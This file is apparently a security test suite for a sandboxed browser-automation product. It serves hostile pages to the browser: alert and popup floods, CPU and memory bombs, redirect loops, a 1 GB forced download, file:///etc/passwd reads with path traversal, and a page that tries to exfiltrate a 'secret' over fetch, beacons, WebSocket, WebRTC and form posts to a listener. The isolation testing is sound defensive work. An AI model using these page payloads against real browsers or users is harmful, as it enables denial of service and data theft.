"""G: pages against the browser that looks at them, and against whoever drives it."""

import asyncio
import json
import shlex
import socket
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager, contextmanager, suppress
from pathlib import PurePosixPath
from typing import Any

from pydantic import TypeAdapter, ValidationError

from macrohard.domain import Step
from macrohard.product.browser import Browser, StepFailed, StepMalformed, Visit, open_browser
from macrohard.product.service import PORT
from macrohard.sandbox import SandboxSpec
from tests.attacks.attack import Attack, Ground, ProbeFailed, Room
from tests.sandbox.test_isolation import own_address

STEP: TypeAdapter[Step] = TypeAdapter(Step)
ON_THE_HOST = {"NetworkMode": "host"}
PROBED_PORT = 48124
BOUND_SECONDS = 90.0
SERVER = """
import http.server, sys, time
PAGES = {
    "/": "<h1>Start</h1><p>Welcome.</p>",
    "/alerts": "<script>for (;;) alert('again')</script>",
    "/leaving": "<h1>Leaving</h1><script>onbeforeunload = () => 'stay'; setInterval(() => location = '/leaving?' + "
        "Math.random(), 5)</script>",
    "/popups": "<script>for (let n = 0; n < 200; n++) open('/?' + n, 'w' + n)</script>",
    "/nodes": "<main></main><script>document.querySelector('main').innerHTML = '<p>node</p>'.repeat(10000)</script>",
    "/hang": "<script>for (;;);</script>",
    "/memory": "<script>const kept = []; for (;;) kept.push(new Uint8Array(1 << 24).fill(1))</script>",
    "/get": "<script>location = '/download'</script>",
    "/file": "<h1>File</h1><script>location = 'file:///etc/passwd'</script><iframe src='file:///etc/passwd'></iframe>",
}
class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *arguments): pass
    def do_GET(self):
        path = self.path.partition("?")[0]
        self.send_response(302 if path == "/redirects" else 200)
        if path == "/redirects":
            self.send_header("Location", "/redirects?" + str(time.time()))
        if path == "/download":
            self.send_header("Content-Disposition", "attachment; filename=large")
            self.send_header("Content-Length", str(1 << 30))
        else:
            self.send_header("Content-Type", "text/html")
        self.end_headers()
        if path == "/download":
            for _ in range(1024):
                self.wfile.write(bytes(1 << 20))
        else:
            self.wfile.write(("<!doctype html><html lang=en><title>x</title>" + PAGES.get(path, "")).encode())
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
"""
LAUNCH = """
import json, os, sys
from playwright.sync_api import sync_playwright
settings = json.loads(sys.argv[1])
def launched(playwright):
    return playwright.chromium.launch(executable_path=os.environ["MACROHARD_CHROMIUM"],
        chromium_sandbox=settings["sandboxed"] and os.environ.get("MACROHARD_CHROMIUM_SANDBOX", "1") == "1")
"""
RENDERERS = (
    LAUNCH
    + """
from pathlib import Path
found = []
with sync_playwright() as playwright:
    browser = launched(playwright)
    browser.new_page().goto("data:text/html,<h1>x</h1>")
    for process in Path("/proc").glob("[0-9]*"):
        try:
            command = (process / "cmdline").read_bytes().decode().replace("\\0", " ")
            status = dict(line.split(":\\t", 1) for line in (process / "status").read_text().splitlines())
        except (OSError, ValueError):
            continue
        # Not this program, which names the same words.
        if "--type=renderer" in command and "python" not in command.split()[0]:
            found.append({"open": "--no-sandbox" in command, "alone": len(status.get("NSpid", "1 1").split()) > 1})
    browser.close()
print(json.dumps(found))
"""
)
CARRIER = (
    LAUNCH
    + """
with sync_playwright() as playwright:
    browser = launched(playwright)
    for address in settings["addresses"]:
        there = f"{address}:{settings['tcp']}"
        page = browser.new_page()
        page.route("http://page.test/", lambda route: route.fulfill(content_type="text/html", body=f'''
            <link rel=dns-prefetch href="//secret.invalid"><link rel=preconnect href="http://{there}">
            <link rel=stylesheet href="http://{there}/css"><img src="http://{there}/img">
            <iframe name=f src="http://{there}/frame"></iframe>
            <form id=form method=post target=f action="http://{there}/form"><input name=x value=secret></form>
            <script src="http://{there}/script"></script><video src="http://{there}/video"></video>
            <script>
            fetch("http://{there}/fetch", {{method: "POST", mode: "no-cors", body: "secret"}}).catch(() => 0);
            navigator.sendBeacon("http://{there}/beacon", "secret");
            new EventSource("http://{there}/events"); new WebSocket("ws://{there}/socket");
            const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:{address}:{settings['udp']}"}}]}});
            peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer));
            document.getElementById("form").submit(); open("http://{there}/window");
            </script>'''))
        try:
            page.goto("http://page.test/", wait_until="commit")
            page.wait_for_timeout(2500)
        except Exception as error:
            print(error, file=sys.stderr)
        page.close()
    browser.close()
print("ended")
"""
)
NAIVE = (
    LAUNCH
    + """
with sync_playwright() as playwright:
    browser = launched(playwright)
    page = browser.new_page()
    page.on("dialog", lambda dialog: dialog.accept())
    page.goto(settings["address"])
    print(page.content())
    browser.close()
"""
)


async def _driven(room: Room, program: str, *, sandboxed: bool, seconds: float = 90, **given: object) -> str:
    argument = json.dumps({"sandboxed": sandboxed, **given})
    command = f"cd /tmp && python3 -c {shlex.quote(program)} {shlex.quote(argument)}"
    result = await room.run(command, timeout_seconds=seconds, directory=PurePosixPath("/tmp"))
    if result.timed_out:
        return "held up"
    if result.exit_code != 0:
        raise ProbeFailed(result.stderr[-800:])
    return result.stdout


async def renderers_in_the_open(ground: Ground) -> Sequence[str]:
    async with ground.open(image="browser") as room:
        # Root cannot have Chromium's own sandbox, which is a part of what makes that room weak.
        found = json.loads(await _driven(room, RENDERERS, sandboxed=ground.provider is not None))
    if not found:
        raise ProbeFailed("no renderer was seen")
    return [str(each) for each in found if each["open"] or not each["alone"]]


@contextmanager
def _listening() -> Any:
    with (
        socket.create_server(("0.0.0.0", 0), backlog=200) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
    ):
        udp.bind(("0.0.0.0", 0))
        tcp.settimeout(0.2)
        udp.settimeout(0.2)
        yield tcp, udp


def _arrived(tcp: socket.socket, udp: socket.socket) -> Sequence[str]:
    """What came, by the first line of each connection."""
    found = set()
    with suppress(TimeoutError):
        while True:
            connection, _ = tcp.accept()
            with connection:
                connection.settimeout(0.2)
                try:
                    found.add(connection.recv(200).decode(errors="replace").partition(" HTTP")[0] or "a connection")
                except (TimeoutError, ConnectionError):
                    found.add("a connection")
    with suppress(TimeoutError):
        udp.recv(2000)
        found.add("WebRTC")
    return sorted(found)


async def carried_out_by_a_page(ground: Ground) -> Sequence[str]:
    with _listening() as (tcp, udp):
        ports = {"tcp": tcp.getsockname()[1], "udp": udp.getsockname()[1]}
        addresses = [own_address(), "172.17.0.1"]
        async with ground.open(image="browser") as room:
            carrying = _driven(room, CARRIER, sandboxed=ground.provider is not None, addresses=addresses, **ports)
            if "ended" not in await carrying:
                raise ProbeFailed("the pages did not come to their end")
        return await asyncio.to_thread(_arrived, tcp, udp)


@asynccontextmanager
async def _pod(ground: Ground) -> AsyncIterator[Browser]:
    """The product's own driver, beside pages that misbehave."""
    assert ground.provider is not None
    async with ground.provider.open(SandboxSpec(image="base")) as app:
        await app.write({PurePosixPath("server.py"): SERVER.encode()})
        await app.spawn(f"exec python3 server.py {PORT} >/tmp/log 2>&1")
        waiting = f"until curl --silent --output /dev/null http://127.0.0.1:{PORT}/; do sleep 0.05; done"
        if (await app.run(waiting, timeout_seconds=60)).exit_code != 0:
            raise ProbeFailed("the pages are not served")
        async with open_browser(ground.provider, beside=app) as browser:
            yield browser


FORBIDDEN = ("file:///etc/passwd", "/../../../../etc/passwd", "chrome://version", "view-source:file:///etc/passwd")
FORBIDDEN_SIGNS = ("root:x:0", "chrome://", "Command Line")


async def files_opened_by_the_driver(ground: Ground) -> Sequence[str]:
    found = []
    async with _pod(ground) as browser:
        for address in FORBIDDEN:
            async with browser.visit() as visit:
                with suppress(StepFailed, StepMalformed):
                    await visit.act("open", value=address)
                with suppress(StepFailed, StepMalformed, ValidationError):
                    await visit.step(STEP.validate_python({"do": "open", "path": address}))
                found += [f"{address}: {sign}" for sign in await _signs(visit)]
        async with browser.visit() as visit:
            with suppress(StepFailed):
                await visit.act("open", value="/file")
            found += [f"a page: {sign}" for sign in await _signs(visit)]
    return found


async def _signs(visit: Visit) -> Sequence[str]:
    try:
        seen = await visit.look()
    except (StepFailed, StepMalformed):
        return []
    return [sign for sign in FORBIDDEN_SIGNS if sign in seen.snapshot + seen.address]


async def files_opened_carelessly(ground: Ground) -> Sequence[str]:
    async with ground.open(image="browser") as room:
        seen = await _driven(room, NAIVE, sandboxed=False, address="file:///etc/passwd")
    return [sign for sign in FORBIDDEN_SIGNS if sign in seen]


BOMBS = ("/alerts", "/leaving", "/popups", "/nodes", "/hang", "/memory", "/redirects", "/get")


async def bombs_that_hold_us_up(ground: Ground) -> Sequence[str]:
    found = []
    async with _pod(ground) as browser:
        for path in BOMBS:
            try:
                async with asyncio.timeout(BOUND_SECONDS):
                    found += [f"{path}: {problem}" for problem in await _survived(browser, path)]
            except TimeoutError:
                found.append(f"{path}: held up for {BOUND_SECONDS:.0f} s")
    return found


async def _survived(browser: Browser, path: str) -> Sequence[str]:
    with suppress(StepFailed):
        async with browser.visit() as visit:
            await visit.act("open", value=path)
            seen = await visit.look()
            if len(seen.snapshot) > 4 << 20:
                return [f"{len(seen.snapshot)} characters of one page"]
    async with browser.visit() as visit:
        await visit.step(STEP.validate_python({"do": "open", "path": "/"}))
        await visit.step(STEP.validate_python({"do": "see", "text": "Welcome."}))
    return []


async def bombs_that_hold_the_careless_up(ground: Ground) -> Sequence[str]:
    async with ground.open(image="browser") as room:
        command = f"(python3 -c {shlex.quote(SERVER)} {PROBED_PORT} >/dev/null 2>&1 &) ; sleep 1"
        await room.run(command, timeout_seconds=20)
        address = f"http://127.0.0.1:{PROBED_PORT}/alerts"
        seen = await _driven(room, NAIVE, sandboxed=False, seconds=15, address=address)
    return ["held up for 15 s"] if seen == "held up" else []


ATTACKS = (
    Attack(id="G1", title="a browser without a sandbox of its own", probe=renderers_in_the_open),
    Attack(
        id="G2",
        title="pages and drivers that open files",
        probe=files_opened_by_the_driver,
        control=files_opened_carelessly,
    ),
    Attack(id="G3", title="pages that carry data out", probe=carried_out_by_a_page, weakness=ON_THE_HOST),
    Attack(
        id="G5",
        title="pages that hold the browser up",
        probe=bombs_that_hold_us_up,
        control=bombs_that_hold_the_careless_up,
    ),
)
